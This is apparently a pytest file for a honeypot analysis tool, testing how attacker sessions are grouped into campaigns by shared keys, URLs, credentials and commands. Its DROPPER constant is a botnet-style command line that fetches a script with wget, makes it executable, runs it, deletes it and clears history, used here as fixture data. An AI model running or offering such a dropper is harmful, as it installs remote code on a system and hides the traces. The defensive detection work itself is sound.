"""Which sessions are tied together, and which are not however much they have in common."""

from __future__ import annotations

import json
import os
import random
from collections import Counter, defaultdict
from collections.abc import Hashable, Iterable
from pathlib import Path
from typing import Any

import msgspec
import pytest

from mirage.analysis.campaigns import Campaign, campaigns
from mirage.analysis.traits import Traits

SHARED = Path(os.environ.get("SHARED", Path(__file__).parents[4] / "shared"))
CORPUS = SHARED / "corpora" / "public.jsonl"
DROPPER = "cd /tmp; wget http://{0}/{1}.sh; chmod 777 {1}.sh; sh {1}.sh; rm -rf {1}.sh; history -c"


def traits(number: int, **more: Any) -> Traits:
    named: dict[str, Any] = {name: frozenset(value) if isinstance(value, set) else value for name, value in more.items()}
    return Traits(session=f"s{number}", source=f"192.0.2.{number}", opened=number, last=number + 1, **named)


def strangers(count: int) -> list[Traits]:
    return [traits(1000 + number, hassh="common", credentials={"root/Zx9!late"}, lines=["uname -a"]) for number in range(count)]


def grouped(found: Iterable[Campaign]) -> list[list[str]]:
    return [campaign.sessions for campaign in found]


@pytest.mark.parametrize(
    "shared",
    [
        {"artifacts": {"ab" * 32}},
        {"keys": {"SHA256:abc"}},
        {"urls": {"http://192.0.2.1/x"}},
        {"credentials": {"root/Zx9!a", "root/Zx9!b"}, "hassh": "one"},
        {"lines": DROPPER.format("192.0.2.7", "x").split("; ")},
    ],
)
def test_what_few_have_ties_across_sources(shared: dict[str, Any]) -> None:
    (campaign,) = campaigns([traits(1, **shared), traits(2), traits(3, **shared)])
    assert (campaign.sessions, campaign.sources) == (["s1", "s3"], ["192.0.2.1", "192.0.2.3"])
    assert (campaign.first, campaign.last) == (1, 4) and campaign.ties


@pytest.mark.parametrize(
    "shared",
    [
        {"credentials": {"root/123456", "admin/admin", "root/"}, "hassh": "one"},
        {"credentials": {"root/Zx9!a", "root/Zx9!b", "root/Zx9!c"}},
        {"hassh": "one"},
        {"lines": ["uname -a"]},
        {"lines": ["wget"]},
        {},
    ],
)
def test_what_anybody_has_ties_nothing(shared: dict[str, Any]) -> None:
    assert campaigns([*(traits(number, **shared) for number in range(2)), *strangers(300)]) == []


def test_a_url_or_a_host_that_very_many_ask_for_ties_nothing() -> None:
    assert campaigns(traits(number, urls={"http://probe.example.com/"}) for number in range(700)) == []


def test_a_public_host_ties_nothing_but_a_host_of_their_own_does() -> None:
    public = [traits(number, urls={f"https://github.com/x/{number}"}) for number in range(2)]
    own = [traits(number + 5, urls={f"http://198.51.100.9/{number}"}) for number in range(2)]
    (campaign,) = campaigns(public + own)
    assert [(tie.kind, tie.value, tie.sessions) for tie in campaign.ties] == [("host", "198.51.100.9", 2)]
    assert campaign.sessions == ["s5", "s6"]


def test_a_dropper_is_known_again_from_another_server_by_another_name() -> None:
    lines = [DROPPER.format(f"198.51.100.{number}", "abcdefgh"[number]) for number in range(8)]
    (campaign,) = campaigns([*(traits(number, lines=[line]) for number, line in enumerate(lines)), *strangers(50)])
    assert campaign.sessions == [f"s{number}" for number in range(8)]
    assert [(tie.kind, tie.value, tie.sessions) for tie in campaign.ties] == [("commands", "cd chmod history rm sh wget", 8)]
    assert "wget <url>" in campaign.commands


def test_what_nothing_else_ties_is_tied_by_programs_that_few_call_together() -> None:
    alone = [traits(1, lines=["uptime -p", "iostat 1"]), traits(2, lines=["iostat -x", "uptime"])]
    (campaign,) = campaigns([*alone, *strangers(50)])
    assert (campaign.sessions, [tie.kind for tie in campaign.ties]) == (["s1", "s2"], ["programs"])
    assert campaigns([traits(number, lines=[f"uptime -{number}", f"iostat {number}x"]) for number in range(40)]) == []


def test_such_ties_add_to_a_campaign_but_tie_no_two_together() -> None:
    first = [traits(number, keys={"k"}, lines=["uptime -p", "iostat 1"]) for number in (1, 2)]
    loner = traits(3, lines=["iostat -x", "uptime"])
    second = [traits(number, keys={"z"}, lines=["iostat -d", "uptime -s"]) for number in (4, 5)]
    assert grouped(campaigns([*first, loner])) == [["s1", "s2", "s3"]]
    assert grouped(campaigns([*first, loner, *second])) == [["s1", "s2"], ["s4", "s5"]]


def test_what_a_visitor_brought_is_known_by_its_name_wherever_it_lies() -> None:
    places = ["/tmp/ozhmxt", "/usr/libexec/ozhmxt", "/usr/local/bin/briyav", "/tmp/briyav"]
    lines = [[f"scp -t{letter} /x{letter}/", place] for letter, place in zip("abcd", places, strict=True)]
    found = campaigns([*(traits(number, lines=each) for number, each in enumerate(lines)), *strangers(50)])
    assert sorted(grouped(found)) == [["s0", "s1"], ["s2", "s3"]]
    assert [tie.value for campaign in found for tie in campaign.ties] == ["ozhmxt scp", "briyav scp"]


def test_a_set_of_many_programs_that_few_call_ties_campaigns_two_programs_do_not() -> None:
    def pairs() -> list[Traits]:
        return [traits(10 * number + own, keys={f"k{number}"}) for number in (0, 1) for own in (0, 1)]

    # each run's own words, so that the lines are not alike
    many = [[f"{name} --{name}{number}x" for name in ("uptime", "iostat", "vmstat")] for number in range(4)]
    rich = [msgspec.structs.replace(each, lines=many[number]) for number, each in enumerate(pairs())]
    poor = [msgspec.structs.replace(each, lines=many[number][:2]) for number, each in enumerate(pairs())]
    assert grouped(campaigns([*rich, *strangers(50)])) == [["s0", "s1", "s10", "s11"]]
    assert grouped(campaigns([*poor, *strangers(50)])) == [["s0", "s1"], ["s10", "s11"]]


def test_ties_chain_and_the_order_of_sessions_says_nothing() -> None:
    chain = [traits(1, keys={"k"}), traits(2, keys={"k"}, artifacts={"a"}), traits(3, artifacts={"a"}), traits(9, keys={"z"})]
    wanted = campaigns(chain)
    assert grouped(wanted) == [["s1", "s2", "s3"]]
    for seed in range(5):
        assert campaigns(random.Random(seed).sample(chain, 4)) == wanted


def test_a_campaign_keeps_its_name_when_it_grows() -> None:
    before = campaigns([traits(1, keys={"k"}), traits(2, keys={"k"})])
    after = campaigns([traits(1, keys={"k"}), traits(2, keys={"k"}), traits(3, keys={"k"})])
    assert [each.id for each in before] == [each.id for each in after] and len(after[0].sessions) == 3


def test_what_an_attacker_wrote_is_compared_whatever_it_is() -> None:
    odd = {"urls": {"http://[", "x", "http://\ud800/"}, "credentials": {"/", "\ud800/\x00"}, "lines": ["\ud800 " * 9, "'" * 9000]}
    assert grouped(campaigns([traits(1, **odd), traits(2, **odd)])) == [["s1", "s2"]]


def test_the_families_of_the_public_corpus_are_tied() -> None:
    """Commands alone: hosts and addresses of the corpus were replaced, so that what they share is chance."""
    if not CORPUS.is_file():
        pytest.skip("the corpora are not on this machine")
    rows = [json.loads(row) for row in CORPUS.read_text().splitlines()]
    of = {
        name: each.id
        for each in campaigns(Traits(session=row["id"], lines=row["commands"]) for row in rows)
        for name in each.sessions
    }
    tied = [of.get(row["id"], row["id"]) for row in rows]
    wanted = [row["family"] for row in rows]
    right = _pairs(zip(wanted, tied))
    recall, precision = right / _pairs(wanted), right / _pairs(tied)
    assert recall >= 0.90 and precision >= 0.95, (recall, precision)
    places: dict[str, set[str]] = defaultdict(set)
    for family, place in zip(wanted, tied, strict=True):
        places[family].add(place)
    several = [family for family, count in Counter(wanted).items() if count > 1]
    whole = sum(len(places[family]) == 1 for family in several)
    assert whole >= 0.90 * len(several), f"{whole} of {len(several)} families lie in one campaign each"


def _pairs(labels: Iterable[Hashable]) -> int:
    return sum(count * (count - 1) // 2 for count in Counter(labels).values())
